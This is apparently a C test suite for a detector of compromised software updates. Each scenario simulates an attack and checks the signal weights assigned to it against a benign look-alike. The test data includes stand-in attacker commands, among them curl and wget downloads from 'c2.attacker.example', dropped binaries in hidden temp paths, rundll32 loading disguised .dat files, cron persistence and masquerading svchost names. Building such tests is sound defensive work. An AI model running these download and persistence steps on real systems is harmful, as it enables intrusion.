/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Signals that tell a compromised update from the honest one that looks most
 * like it: each with that twin beside it.
 */
#include "scene.h"

#include <string.h>

#define AGENT "/opt/acme/agent"
#define HOUR 3600
#define DAY (24 * HOUR)
#define C2 "c2.attacker.example"

static void again(uint32_t os)
{
	scene_close();
	scene_open(&(scene_options){ .os = os });
}

/* dpkg delivers the agent, which runs as 200. */
static void update(void)
{
	start(1, 100, "/usr/bin/dpkg", "dpkg --unpack acme.deb");
	write_to(100, AGENT);
	end(100);
	start(1, 200, AGENT, NULL);
}

/*
 * A sensor that sees names; the agent ran for two days and asked for its vendor's
 * host alone. `bare`: it also went to an address that no name was asked for.
 */
static void long_known(int bare)
{
	again(SCHAIN_OS_LINUX);
	answer("updates.acme.example", "203.0.113.5");
	start(1, 50, AGENT, NULL);
	connect_to(50, NULL, "203.0.113.5", 443);
	if (bare)
		connect_to(50, NULL, "203.0.113.6", 443);
	wait_for(2 * DAY);
	end(50);
	update();
	answer("updates.acme.example", "203.0.113.5");
	connect_to(200, NULL, "203.0.113.5", 443);
}

static int latest_has(const char *signal)
{
	return has_signal(verdict_on("/opt/acme"), signal);
}

START_TEST(the_first_address_without_a_name_is_a_signal_of_a_product_that_always_asked)
{
	long_known(0);
	connect_to(200, NULL, "203.0.113.9", 443);
	ck_assert_int_eq(weight_of(verdict_on("/opt/acme"), "egress.first_address"), 14);
}
END_TEST

START_TEST(a_product_that_used_addresses_before_does_so_as_ever)
{
	long_known(1);
	connect_to(200, NULL, "203.0.113.9", 443);
	ck_assert(latest_has("egress.direct_to_address"));
	ck_assert(!latest_has("egress.first_address"));
}
END_TEST

START_TEST(a_new_place_that_was_asked_for_by_name_is_no_first_address)
{
	long_known(0);
	answer(C2, "203.0.113.9");
	connect_to(200, NULL, "203.0.113.9", 443);
	ck_assert(latest_has("egress.changed_habit"));
	ck_assert(!latest_has("egress.first_address"));
}
END_TEST

/* Three places it never was at, so far apart. */
static void three_new_places(int64_t seconds)
{
	static const char *const places[] = { "one.example.org", "two.example.net", "three.example.com" };

	for (size_t i = 0; i < 3; i++) {
		connect_to(200, places[i], "203.0.113.9", 443);
		wait_for(seconds);
	}
}

START_TEST(several_new_places_after_a_quiet_time_are_an_awakening)
{
	long_known(0);
	wait_for(14 * DAY);
	three_new_places(HOUR);
	ck_assert_int_eq(weight_of(verdict_on("/opt/acme"), "egress.awoke"), 9);
}
END_TEST

START_TEST(a_new_version_that_goes_to_several_new_places_at_once_did_not_sleep)
{
	long_known(0);
	three_new_places(60);
	ck_assert(latest_has("egress.several_new_hosts"));
	ck_assert(!latest_has("egress.awoke"));
}
END_TEST

START_TEST(new_places_one_by_one_over_weeks_are_no_awakening)
{
	long_known(0);
	wait_for(DAY);
	three_new_places(4 * DAY);
	ck_assert(latest_has("egress.several_new_hosts"));
	ck_assert(!latest_has("egress.awoke"));
}
END_TEST

/* The agent puts a program there and starts it; something makes a verdict sure. */
static const found *unpacks(const char *path)
{
	again(SCHAIN_OS_LINUX);
	update();
	write_to(200, path);
	start(200, 201, path, NULL);
	connect_to(201, C2, "203.0.113.9", 443);
	return verdict_on("/opt/acme");
}

START_TEST(a_program_that_it_put_elsewhere_and_started_is_a_dropped_one)
{
	ck_assert_int_eq(weight_of(unpacks("/var/tmp/.cache/worker"), "child.dropped_program"), 7);
}
END_TEST

START_TEST(a_helper_unpacked_where_the_software_lies_is_its_own)
{
	ck_assert(!has_signal(unpacks("/opt/acme/helper"), "child.dropped_program"));
}
END_TEST

START_TEST(what_it_put_elsewhere_and_others_start_is_not_counted_against_it)
{
	update();
	write_to(200, "/var/tmp/.cache/worker");
	start(1, 201, "/var/tmp/.cache/worker", NULL);
	connect_to(201, C2, "203.0.113.9", 443);
	ck_assert(!latest_has("child.dropped_program"));
}
END_TEST

START_TEST(a_delivered_installer_puts_programs_where_they_belong)
{
	static const char setup[] = "/home/anna/Downloads/acme-installer.sh";

	start(1, 90, "/usr/bin/firefox", NULL);
	write_to(90, setup);
	start_script(1, 100, "/usr/bin/bash", setup);
	write_to(100, AGENT);
	start(100, 200, AGENT, NULL);
	connect_to(200, C2, "203.0.113.9", 443);
	ck_assert(!latest_has("child.dropped_program"));
}
END_TEST

/*
 * A downloader of its own kind, running for a day; `before` and `during`: whether
 * it was at an address without a name before, and while it brought the program.
 */
static const found *fetched(int before, int during)
{
	again(SCHAIN_OS_LINUX);
	answer("files.vendor.example", "203.0.113.20");
	if (before) {
		start(1, 90, "/opt/fetch/fetcher", NULL);
		connect_to(90, NULL, "203.0.113.30", 443);
		end(90);
	}
	wait_for(HOUR);
	start(1, 100, "/opt/fetch/fetcher", NULL);
	answer("files.vendor.example", "203.0.113.20");
	connect_to(100, NULL, during ? "203.0.113.31" : "203.0.113.20", 443);
	write_to(100, AGENT);
	start(1, 200, AGENT, NULL);
	connect_to(200, C2, "203.0.113.9", 443);
	return verdict_on("/opt/acme");
}

START_TEST(an_installer_at_an_address_without_a_name_for_the_first_time_is_a_signal)
{
	ck_assert_int_eq(weight_of(fetched(0, 1), "delivery.from_address"), 6);
}
END_TEST

START_TEST(one_that_asked_for_the_name_or_always_used_addresses_is_none)
{
	ck_assert(!has_signal(fetched(0, 0), "delivery.from_address"));
	ck_assert(!has_signal(fetched(1, 1), "delivery.from_address"));
}
END_TEST

static const found *runs_as(const char *path)
{
	again(SCHAIN_OS_WINDOWS);
	start(4, 100, "C:\\Windows\\System32\\msiexec.exe", "msiexec /V");
	write_content(100, path, SCHAIN_CONTENT_PE, 0);
	start(4, 200, path, NULL);
	connect_to(200, C2, "203.0.113.9", 443);
	return verdict_on("acme");
}

START_TEST(a_program_under_a_name_of_data_is_disguised)
{
	ck_assert_int_eq(weight_of(runs_as("C:\\ProgramData\\Acme\\notes.txt"), "trust.disguised"), 8);
	ck_assert_int_eq(weight_of(runs_as("C:\\ProgramData\\Acme\\cache.dat"), "trust.disguised"), 8);
	ck_assert(!has_signal(runs_as("C:\\ProgramData\\Acme\\notes.exe"), "trust.disguised"));
}
END_TEST

/* What a tool that runs modules is told to run; the module was delivered. */
static const found *module_run(const char *tool, const char *command, const char *module)
{
	const found *it;

	again(SCHAIN_OS_WINDOWS);
	start(4, 100, "C:\\Windows\\System32\\msiexec.exe", "msiexec /V");
	write_content(100, "C:\\ProgramData\\Acme\\core.dll", SCHAIN_CONTENT_PE, 0);
	write_content(100, module, SCHAIN_CONTENT_PE, 0);
	start(4, 200, tool, command);
	connect_to(200, C2, "203.0.113.9", 443);
	return verdicts(&it) ? it : NULL;
}

#define RUNDLL "C:\\Windows\\System32\\rundll32.exe"
#define REGSVR "C:\\Windows\\System32\\regsvr32.exe"
#define CORE "C:\\ProgramData\\Acme\\core.dll"

START_TEST(a_delivered_module_is_the_subject_of_the_tool_that_runs_it)
{
	const found *it = module_run(RUNDLL, "rundll32 \"" CORE "\",Start", CORE);

	ck_assert_ptr_nonnull(it);
	ck_assert(has_signal(it, "first_run.script"));
	ck_assert(!has_signal(it, "trust.disguised"));
	it = module_run(REGSVR, "regsvr32 /s " CORE, CORE);
	ck_assert_ptr_nonnull(it);
	ck_assert(has_signal(it, "first_run.script"));
	it = module_run(RUNDLL, "rundll32 C:\\ProgramData\\Acme\\perf.dat,#1 30",
	                "C:\\ProgramData\\Acme\\perf.dat");
	ck_assert_ptr_nonnull(it);
	ck_assert(has_signal(it, "trust.disguised"));
}
END_TEST

START_TEST(a_module_of_the_system_is_nobodys_delivery)
{
	ck_assert_ptr_null(module_run(RUNDLL, "rundll32 shell32.dll,Control_RunDLL desk.cpl", CORE));
	ck_assert_ptr_null(module_run(REGSVR, "regsvr32 /s C:\\Windows\\System32\\vbscript.dll", CORE));
}
END_TEST

/* Scripts have any ending: their interpreter is told. */
START_TEST(a_script_under_a_name_of_data_is_no_disguise)
{
	again(SCHAIN_OS_LINUX);
	start(1, 100, "/usr/bin/dpkg", "dpkg --unpack acme.deb");
	write_content(100, "/opt/acme/words.txt", SCHAIN_CONTENT_SCRIPT, 100);
	start_script(1, 200, "/usr/bin/python3", "/opt/acme/words.txt");
	connect_to(200, C2, "203.0.113.9", 443);
	ck_assert(!latest_has("trust.disguised"));
}
END_TEST

START_TEST(what_a_maintainer_script_starts_weighs_less)
{
	const found *it = NULL;

	start(1, 100, "/usr/bin/dpkg", "dpkg --configure acme");
	write_to(100, "/var/lib/dpkg/info/acme.postinst");
	start_script(100, 101, "/bin/sh", "/var/lib/dpkg/info/acme.postinst");
	start(101, 102, "/usr/bin/curl", "curl https://fonts.example.org/f.zip");
	connect_to(102, "fonts.example.org", "203.0.113.9", 443);
	/* child.downloader 10, child.maintainer_script -8 */
	ck_assert_uint_eq(verdicts(&it), 1);
	ck_assert_int_eq(weight_of(it, "child.maintainer_script"), 10 - 8);
	ck_assert(!has_signal(it, "child.downloader"));
	ck_assert(!has_signal(it, "egress.by_tool"));
}
END_TEST

START_TEST(the_same_after_the_installation_weighs_in_full)
{
	update();
	start(200, 201, "/usr/bin/curl", NULL);
	connect_to(201, "fonts.example.org", "203.0.113.9", 443);
	ck_assert_int_eq(weight_of(verdict_on("/opt/acme"), "child.downloader"), 10);
	ck_assert(latest_has("egress.by_tool"));
	ck_assert(!latest_has("child.maintainer_script"));
}
END_TEST

/* `later`: by itself, no longer below dpkg. */
static void a_delivered_script_adds_a_job(int later)
{
	again(SCHAIN_OS_LINUX);
	start(1, 100, "/usr/bin/dpkg", "dpkg --configure acme");
	write_to(100, "/opt/acme/agent.sh");
	start_script(later ? 1 : 100, 101, "/usr/bin/dash", "/opt/acme/agent.sh");
	persist(101, "/etc/cron.d/acme");
	connect_to(101, C2, "203.0.113.9", 443);
}

START_TEST(a_script_may_arrange_to_run_again_while_its_package_is_installed_only)
{
	a_delivered_script_adds_a_job(0);
	ck_assert(!latest_has("persistence.created"));
	a_delivered_script_adds_a_job(1);
	ck_assert(latest_has("persistence.created"));
}
END_TEST

/* Nobody reviews the hooks of a registry's packages. */
START_TEST(a_hook_of_a_developers_package_is_no_maintainer_script)
{
	const found *it;

	start(1, 100, "/usr/bin/npm", "npm install thing");
	write_to(100, "/srv/app/node_modules/thing/index.js");
	start_in(100, 101, "/bin/sh", "sh -c node setup.js", "/srv/app/node_modules/thing");
	start(101, 102, "/usr/bin/curl", NULL);
	connect_to(102, C2, "203.0.113.9", 443);
	it = verdict_on("thing");
	ck_assert(has_signal(it, "child.downloader"));
	ck_assert(!has_signal(it, "child.maintainer_script"));
}
END_TEST

static const found *copied_to(const char *path)
{
	const found *it = NULL;

	again(SCHAIN_OS_MACOS);
	start(1, 100, "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", NULL);
	write_content(100, path, SCHAIN_CONTENT_MACHO, 0);
	start(1, 200, path, NULL);
	connect_to(200, C2, "203.0.113.9", 443);
	ck_assert_uint_eq(verdicts(&it), 1);
	return it;
}

START_TEST(a_bundle_dragged_into_place_is_how_users_of_macos_install)
{
	const found *it = copied_to("/Applications/Acme.app/Contents/MacOS/Acme");

	ck_assert_int_eq(weight_of(it, "delivery.copied_bundle"), 2);
	ck_assert(!has_signal(it, "delivery.unrecognised_writer"));
}
END_TEST

START_TEST(a_bare_program_or_a_bundle_elsewhere_has_an_unrecognised_writer)
{
	ck_assert(has_signal(copied_to("/Applications/acme"), "delivery.unrecognised_writer"));
	ck_assert(has_signal(copied_to("/private/tmp/Acme.app/Contents/MacOS/Acme"),
	                     "delivery.unrecognised_writer"));
}
END_TEST

/* Where no sensor tells names, as with auditd. */
static const char *place_of(const char *tool, const char *command)
{
	again(SCHAIN_OS_LINUX);
	update();
	start(200, 201, tool, command);
	connect_to(201, NULL, "203.0.113.9", 443);
	return verdict_on("/opt/acme")->destinations;
}

START_TEST(a_download_tools_one_url_names_where_it_connects)
{
	ck_assert_ptr_nonnull(strstr(place_of("/usr/bin/curl", "curl -s https://" C2 "/x -o x"), C2));
	ck_assert_ptr_nonnull(strstr(place_of("/usr/bin/wget", "wget 'http://" C2 ":8080/x'"), C2));
}
END_TEST

START_TEST(two_urls_or_another_programs_argument_name_nothing)
{
	ck_assert_ptr_null(strstr(place_of("/usr/bin/curl", "curl https://" C2 "/a https://example.org/"),
	                          C2));
	ck_assert_ptr_null(strstr(place_of("/opt/acme/worker", "worker --home https://" C2 "/"), C2));
	ck_assert(latest_has("egress.unnamed_address"));
	place_of("/usr/bin/curl", "curl http://203.0.113.9/x");
	ck_assert(latest_has("egress.direct_to_address"));
}
END_TEST

/* A validly signed agent; then what it does. */
static void signed_agent(void)
{
	again(SCHAIN_OS_WINDOWS);
	start(4, 100, "C:\\Windows\\System32\\msiexec.exe", "msiexec /V");
	write_to(100, "C:\\Program Files\\Acme\\agent.exe");
	start_signed(4, 200, "C:\\Program Files\\Acme\\agent.exe", SCHAIN_SIGNATURE_VALID, "Acme Ltd",
	             "Acme Ltd");
}

START_TEST(a_signature_speaks_for_who_made_it_and_not_for_what_it_does)
{
	const found *it;

	signed_agent();
	start(200, 201, "C:\\Windows\\System32\\cmd.exe", "cmd /c ver");
	it = verdict_on("/acme");
	/* prior -18, program path 1, first run 2, shell 8, signature -4 */
	ck_assert_int_eq(it->score, -18 + 1 + 2 + 8 - 4);
	connect_to(200, C2, "203.0.113.9", 443);
	it = verdict_on("/acme");
	/* the destination's 10 are more than the signature's 4, which no longer count */
	ck_assert_int_eq(it->score, -18 + 1 + 2 + 8 + 10);
}
END_TEST

START_TEST(deeds_that_weigh_less_than_the_signature_leave_it_its_word)
{
	const found *it;

	again(SCHAIN_OS_WINDOWS);
	start(4, 60, "C:\\Program Files\\Mail\\mail.exe", NULL);
	connect_to(60, "cdn.shared.example", "203.0.113.12", 443);
	start(4, 100, "C:\\Windows\\System32\\msiexec.exe", "msiexec /V");
	write_to(100, "C:\\Program Files\\Acme\\agent.exe");
	start_signed(4, 200, "C:\\Program Files\\Acme\\agent.exe", SCHAIN_SIGNATURE_VALID, "Acme Ltd",
	             "Acme Ltd");
	start(200, 201, "C:\\Windows\\System32\\cmd.exe", "cmd /c ver");
	connect_to(200, "cdn.shared.example", "203.0.113.12", 443);
	it = verdict_on("/acme");
	/* as before, and a place that others of the host were at before: 10 - 8 */
	ck_assert_int_eq(weight_of(it, "egress.common_on_host"), 2);
	ck_assert_int_eq(it->score, -18 + 1 + 2 + 8 - 4 + 2);
}
END_TEST

static void answer_to(uint64_t pid, const char *name, const char *address)
{
	schain_string given = schain_string_of(address);
	schain_process process = SCHAIN_PROCESS_INIT;
	schain_event event = SCHAIN_EVENT_INIT;
	schain_dns dns = SCHAIN_DNS_INIT;

	process.pid = pid;
	dns.query = schain_string_of(name);
	dns.answers = &given;
	dns.answer_count = 1;
	event.type = SCHAIN_EVENT_DNS;
	event.process = &process;
	event.dns = &dns;
	emit(&event);
}

/* The agent starts a shell, so that there is a verdict, and asks for a name. */
static const found *asks_for(const char *name, const char *address)
{
	update();
	start(200, 201, "/usr/bin/sh", NULL);
	answer_to(200, name, address);
	return verdict_on("/opt/acme");
}

START_TEST(a_name_asked_for_stands_for_a_connection_that_nobody_saw)
{
	const found *it = asks_for(C2, "203.0.113.9");

	/* prior -18, program path 1, first run 2, shell 8, asked 5 */
	ck_assert_int_eq(it->score, -18 + 1 + 2 + 8 + 5);
	ck_assert_ptr_nonnull(strstr(it->explanation, "It asked for the name " C2));
	connect_to(200, C2, "203.0.113.9", 443);
	it = verdict_on("/opt/acme");
	ck_assert(!has_signal(it, "egress.asked_name"));
	ck_assert_int_eq(it->score, -18 + 1 + 2 + 8 + 10);
}
END_TEST

START_TEST(names_of_the_inside_the_vendor_and_those_others_asked_for_are_nothing)
{
	ck_assert(!has_signal(asks_for("intra.partner.example", "10.1.2.3"), "egress.asked_name"));
	again(SCHAIN_OS_LINUX);
	ck_assert(!has_signal(asks_for("updates.acme.example", "203.0.113.5"), "egress.asked_name"));
	again(SCHAIN_OS_LINUX);
	start(1, 60, "/usr/bin/mail", NULL);
	answer_to(60, "www.shared.example", "203.0.113.12");
	ck_assert(!has_signal(asks_for("cdn.shared.example", "203.0.113.12"), "egress.asked_name"));
}
END_TEST

/* A stub resolver asks upstream what it was asked: that makes no place common. */
START_TEST(the_systems_resolver_vouches_for_no_name)
{
	const found *it;

	start(1, 60, "/usr/lib/systemd/systemd-resolved", NULL);
	it = asks_for(C2, "203.0.113.9");
	ck_assert(has_signal(it, "egress.asked_name"));
	answer_to(60, C2, "203.0.113.9");
	connect_to(200, C2, "203.0.113.9", 443);
	ck_assert_int_eq(weight_of(verdict_on("/opt/acme"), "egress.unapproved_host"), 10);
}
END_TEST

START_TEST(names_alone_make_and_break_a_habit)
{
	start(1, 50, AGENT, NULL);
	answer_to(50, "telemetry.example.org", "203.0.113.7");
	wait_for(2 * DAY);
	end(50);
	update();
	start(200, 201, "/usr/bin/sh", NULL);
	answer_to(200, "telemetry.example.org", "203.0.113.7");
	ck_assert(!latest_has("egress.asked_name"));
	ck_assert(!latest_has("egress.changed_habit"));
	answer_to(200, C2, "203.0.113.9");
	ck_assert(latest_has("egress.asked_name"));
	ck_assert(latest_has("egress.changed_habit"));
}
END_TEST

START_TEST(a_name_of_the_systems_own_in_another_place_is_a_signal)
{
	ck_assert_int_eq(weight_of(runs_as("C:\\ProgramData\\Acme\\svchost.exe"), "trust.system_name"), 10);
	ck_assert(!has_signal(runs_as("C:\\ProgramData\\Acme\\acmehost.exe"), "trust.system_name"));
}
END_TEST

/* Windows and its scanner are updated too, and servicing runs what it unpacks. */
START_TEST(the_systems_own_in_their_places_are_not)
{
	static const char *const places[] = {
		"C:\\Windows\\System32\\wuauclt.exe", "C:\\Windows\\explorer.exe",
		"C:\\Windows\\WinSxS\\amd64_x_1\\svchost.exe",
		"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.1-0\\MsMpEng.exe",
	};

	for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
		const found *it;

		again(SCHAIN_OS_WINDOWS);
		start(4, 100, "C:\\Windows\\System32\\msiexec.exe", NULL);
		write_content(100, places[i], SCHAIN_CONTENT_PE, 0);
		start(4, 200, places[i], NULL);
		start(200, 201, "C:\\Windows\\System32\\cmd.exe", NULL);
		connect_to(200, C2, "203.0.113.9", 443);
		for (size_t count = verdicts(&it); count-- > 0;)
			ck_assert_msg(!has_signal(&it[count], "trust.system_name"), "%s", places[i]);
	}
}
END_TEST

START_TEST(a_module_beside_its_program_under_a_name_of_the_systems_is_a_signal)
{
	signed_agent();
	load_signed(200, "C:\\Program Files\\Acme\\core.dll", SCHAIN_SIGNATURE_VALID, "Acme Ltd");
	start(200, 201, "C:\\Windows\\System32\\cmd.exe", "cmd /c ver");
	ck_assert(!has_signal(verdict_on("/acme"), "trust.system_name"));
	again(SCHAIN_OS_WINDOWS);
	start(4, 100, "C:\\Windows\\System32\\msiexec.exe", "msiexec /V");
	write_to(100, "C:\\Program Files\\Acme\\agent.exe");
	write_to(100, "C:\\Program Files\\Acme\\winscard.dll");
	start(4, 200, "C:\\Program Files\\Acme\\agent.exe", NULL);
	load(200, "C:\\Program Files\\Acme\\winscard.dll");
	start(200, 201, "C:\\Windows\\System32\\cmd.exe", "cmd /c ver");
	ck_assert(has_signal(verdict_on("/acme"), "trust.system_name"));
}
END_TEST

/* Sysmon tells neither content nor mode. */
static size_t runs_data(const char *tool, const char *command)
{
	const found *it;

	again(SCHAIN_OS_WINDOWS);
	start(4, 50, "C:\\ProgramData\\Acme\\acme.exe", NULL);
	write_content(50, "C:\\ProgramData\\perf.dat", SCHAIN_CONTENT_UNKNOWN, 0);
	start(50, 200, tool, command);
	start(200, 201, "C:\\Windows\\System32\\cmd.exe", NULL);
	return verdicts(&it);
}

START_TEST(what_was_written_as_data_and_runs_as_a_module_was_delivered)
{
	ck_assert_uint_eq(runs_data(RUNDLL, "rundll32 \"C:\\ProgramData\\perf.dat\",#1"), 1);
	ck_assert_uint_eq(runs_data("C:\\Python\\python.exe", "python C:\\ProgramData\\perf.dat"), 0);
	ck_assert_uint_eq(runs_data("C:\\Windows\\notepad.exe", "notepad C:\\ProgramData\\perf.dat"), 0);
}
END_TEST

int main(void)
{
	const scene_test tests[] = {
		{ "places", the_first_address_without_a_name_is_a_signal_of_a_product_that_always_asked },
		{ "places", a_product_that_used_addresses_before_does_so_as_ever },
		{ "places", a_new_place_that_was_asked_for_by_name_is_no_first_address },
		{ "places", several_new_places_after_a_quiet_time_are_an_awakening },
		{ "places", a_new_version_that_goes_to_several_new_places_at_once_did_not_sleep },
		{ "places", new_places_one_by_one_over_weeks_are_no_awakening },
		{ "places", a_download_tools_one_url_names_where_it_connects },
		{ "places", two_urls_or_another_programs_argument_name_nothing },
		{ "programs", a_program_that_it_put_elsewhere_and_started_is_a_dropped_one },
		{ "programs", a_helper_unpacked_where_the_software_lies_is_its_own },
		{ "programs", what_it_put_elsewhere_and_others_start_is_not_counted_against_it },
		{ "programs", a_delivered_installer_puts_programs_where_they_belong },
		{ "programs", a_program_under_a_name_of_data_is_disguised },
		{ "programs", a_delivered_module_is_the_subject_of_the_tool_that_runs_it },
		{ "programs", a_module_of_the_system_is_nobodys_delivery },
		{ "programs", a_script_under_a_name_of_data_is_no_disguise },
		{ "deliveries", an_installer_at_an_address_without_a_name_for_the_first_time_is_a_signal },
		{ "deliveries", one_that_asked_for_the_name_or_always_used_addresses_is_none },
		{ "deliveries", what_a_maintainer_script_starts_weighs_less },
		{ "deliveries", the_same_after_the_installation_weighs_in_full },
		{ "deliveries", a_script_may_arrange_to_run_again_while_its_package_is_installed_only },
		{ "deliveries", a_hook_of_a_developers_package_is_no_maintainer_script },
		{ "deliveries", a_bundle_dragged_into_place_is_how_users_of_macos_install },
		{ "deliveries", a_bare_program_or_a_bundle_elsewhere_has_an_unrecognised_writer },
		{ "names", a_name_asked_for_stands_for_a_connection_that_nobody_saw },
		{ "names", names_of_the_inside_the_vendor_and_those_others_asked_for_are_nothing },
		{ "names", the_systems_resolver_vouches_for_no_name },
		{ "names", names_alone_make_and_break_a_habit },
		{ "programs", a_name_of_the_systems_own_in_another_place_is_a_signal },
		{ "programs", the_systems_own_in_their_places_are_not },
		{ "programs", a_module_beside_its_program_under_a_name_of_the_systems_is_a_signal },
		{ "programs", what_was_written_as_data_and_runs_as_a_module_was_delivered },
		{ "signatures", a_signature_speaks_for_who_made_it_and_not_for_what_it_does },
		{ "signatures", deeds_that_weigh_less_than_the_signature_leave_it_its_word },
		{ NULL, NULL },
	};

	return scene_run("twins", tests);
}
